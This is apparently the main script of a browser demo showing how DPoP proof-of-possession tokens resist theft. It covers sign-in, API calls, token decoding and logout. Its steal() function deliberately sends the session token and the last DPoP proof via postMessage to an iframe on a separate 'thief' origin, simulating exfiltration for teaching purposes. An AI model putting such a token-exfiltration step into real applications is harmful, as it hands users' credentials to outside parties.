import { createDpopFetch, createKeyPair } from './dpop.js'
import { deleteSession, loadSession, saveSession } from './session-store.js'
import { finishSignIn, startSignIn, takeAnswer } from './sign-in.js'
import { addCall, decode, element, showWhen } from './view.js'

const config = await (await fetch('/config.json')).json()
let session = await loadSession()
let dpopFetch = session && createDpopFetch(session.keyPair, record)
/** The last request to the API with its proof, as a thief would have seen it. */
let seen

on('sign-in', () => signIn(false))
on('renew', () => signIn(true))
on('call', callApi)
on('steal', steal)
on('log-out', logOut)
await attempt(start)
element('main').setAttribute('aria-busy', 'false')

async function start() {
  const answer = takeAnswer()
  try {
    if (answer && session) {
      const token = await finishSignIn(config, answer, dpopFetch)
      session = { ...session, token }
      await saveSession(session)
    }
  } finally {
    render()
  }
  if (session?.token) await callApi()
}

async function signIn(renew) {
  session ??= { keyPair: await createKeyPair() }
  await saveSession(session)
  await startSignIn(config, { keyPair: session.keyPair, renew })
}

async function callApi() {
  const response = await dpopFetch(`${config.api}/orders`, { token: session.token })
  if (!response.ok) {
    throw new Error('The API refused the token: it may have expired. Renew it.')
  }
  const { user, name, orders } = await response.json()
  element('user').textContent = `${name} (${user})`
  element('orders').textContent = orders
    .map(({ item, quantity }) => `${quantity} ${item}`)
    .join(', ')
}

/** Without the key, the token is worth nothing to anyone. The provider's own session goes on. */
async function logOut() {
  await deleteSession()
  session = undefined
  dpopFetch = undefined
  seen = undefined
  element('theft').replaceChildren()
  element('calls').replaceChildren()
  render()
}

/** Does to ourselves what a script of somebody else would do: sends away all that can be read. */
async function steal() {
  // Fresh, so that nothing is wrong with the proof but that it was used.
  await callApi()
  const frame = document.createElement('iframe')
  frame.title = 'The thief, on another origin'
  frame.src = config.thief
  frame.addEventListener('load', () => {
    frame.contentWindow?.postMessage({ token: session.token, ...seen }, config.thief)
  })
  element('theft').replaceChildren(frame)
}

function record({ method, url, proof, status, error }) {
  addCall(element('calls'), { sent: `${method} ${url}`, status, error })
  if (url.startsWith(config.api)) seen = { method, url, proof }
}

function render() {
  const token = session?.token
  showWhen({ 'signed-in': token, 'signed-out': !token })
  element('user').textContent = ''
  element('orders').textContent = ''
  const { header, claims } = token ? decode(token) : {}
  element('header').textContent = token ? JSON.stringify(header, null, 2) : ''
  element('claims').textContent = token ? JSON.stringify(claims, null, 2) : ''
  element('expiry').textContent = token ? new Date(claims.exp * 1000).toLocaleTimeString() : ''
}

async function attempt(action) {
  element('error').textContent = ''
  try {
    await action()
  } catch (error) {
    element('error').textContent = error.message
  }
}

function on(id, action) {
  element(id).addEventListener('click', () => void attempt(action))
}
